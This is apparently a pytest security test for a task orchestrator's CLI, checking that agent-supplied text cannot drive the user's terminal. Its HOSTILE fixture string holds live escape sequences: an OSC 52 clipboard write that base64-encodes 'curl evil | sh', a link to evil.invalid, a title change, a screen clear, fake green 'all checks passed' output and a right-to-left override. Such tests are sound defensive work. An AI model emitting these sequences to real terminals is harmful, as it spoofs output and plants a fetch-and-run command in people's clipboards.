"""Agent text never drives the person's terminal: a hostile task prints OSC 0 (title), OSC 52
(clipboard), OSC 8 (links), a screen clear, fake colours, C1 controls and a right-to-left
override in its prompt, output, log, error and file names; every command that shows them, run in
a real pseudo-terminal, prints them as visible escapes, while rich's own colours still work."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path

import pytest

from orchestration_protocol import Layout
from tests.gitrepo import make_remote

ORCHESTRATOR = [sys.executable, "-c", "import sys; from manager.cli import main; sys.exit(main())"]
HOSTILE = (
    "\x1b]0;pwned-title\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
    "\x1b]8;;http://evil.invalid/\x1b\\click\x1b]8;;\x1b\\"
    "\x1b[2J\x1b[H\x1b[32mall checks passed\x1b[0m \x9b31m\x9d0;c1\x07 \u202eevil"
)
RAW_ATTACKS = ("\x1b]", "\x07", "\x1b[2J", "\x1b[H", "\x1b[32mall", "\x9b", "\x9d", "\u202e")
SGR = re.compile(r"\x1b\[[0-9;]*m")
RICH_OWN = re.compile(r"\x1b\[(\?25[lh]|[0-9;]*[mAK])")
"""What rich itself sends: colours, and for ``watch`` cursor hide/show, erase line, cursor up."""


def in_a_terminal(args: list[str], env: dict[str, str], timeout_s: float = 60) -> str:
    """What ``args`` print on a real pseudo-terminal (stdout and stderr), decoded."""
    leader, follower = pty.openpty()
    process = subprocess.Popen(args, stdin=follower, stdout=follower, stderr=follower, env=env)
    os.close(follower)
    chunks: list[bytes] = []
    try:
        while True:
            ready, _, _ = select.select([leader], [], [], timeout_s)
            if not ready:
                break
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
    finally:
        process.wait(timeout=timeout_s)
        os.close(leader)
    return b"".join(chunks).decode("utf-8", "replace")


@pytest.fixture
def hostile_root(tmp_path: Path, cli_process) -> tuple[Layout, dict[str, str]]:
    layout = Layout(tmp_path / "orchestration").ensure()
    env = {
        **os.environ,
        "ORCHESTRATION_DIR": str(layout.root),
        "REPO_URL": str(make_remote(tmp_path)),
        "COLUMNS": "400",
    }
    script = (
        f"printf '%s\\n' {_quoted(HOSTILE)}; "
        f"touch {_quoted('name-' + HOSTILE.replace('/', '_'))}; "
        f"printf '%s' {_quoted(HOSTILE)} >&2; exit 3"
    )
    task = {"id": "evil", "prompt": f"# {HOSTILE}\n{script}", "agent": "command"}
    (layout.tasks_dir / "evil.json").write_text(json.dumps(task))
    done = subprocess.run(
        [*ORCHESTRATOR, "spawn", "default", "evil"], env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    subprocess.run([*ORCHESTRATOR, "wait", "evil", "--timeout", "120"], env=env, check=False)
    return layout, env


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


COMMANDS = {
    "status": ["status"],
    "watch": ["watch", "--until-done"],
    "wait": ["wait", "evil", "--timeout", "10"],
    "result": ["result", "evil"],
    "logs": ["logs", "evil"],
    "logs --tail": ["logs", "evil", "--tail", "5"],
    "logs -f": ["logs", "evil", "-f"],
    "task show": ["task", "show", "evil"],
    "task list": ["task", "list"],
}


@pytest.mark.parametrize("command", COMMANDS.values(), ids=COMMANDS.keys())
def test_no_escape_sequence_reaches_the_terminal(hostile_root, command: list[str]) -> None:
    _, env = hostile_root
    shown = in_a_terminal([*ORCHESTRATOR, *command], env)
    assert "evil" in shown
    for attack in RAW_ATTACKS:
        assert attack not in shown, (attack, shown[:2000])
    assert not RICH_OWN.sub("", shown).count("\x1b"), shown[:2000]
    visible = ("\\x1b]0;pwned-title", "\\x1b[32mall checks passed", "\\u202eevil")
    if command[0] in ("result", "logs", "task"):
        assert any(text in shown for text in visible), shown[:2000]


def test_rich_keeps_its_own_colours_on_a_terminal(hostile_root) -> None:
    _, env = hostile_root
    shown = in_a_terminal([*ORCHESTRATOR, "status"], env)
    assert SGR.search(shown), "the status table lost its colours"
    assert "failed" in shown
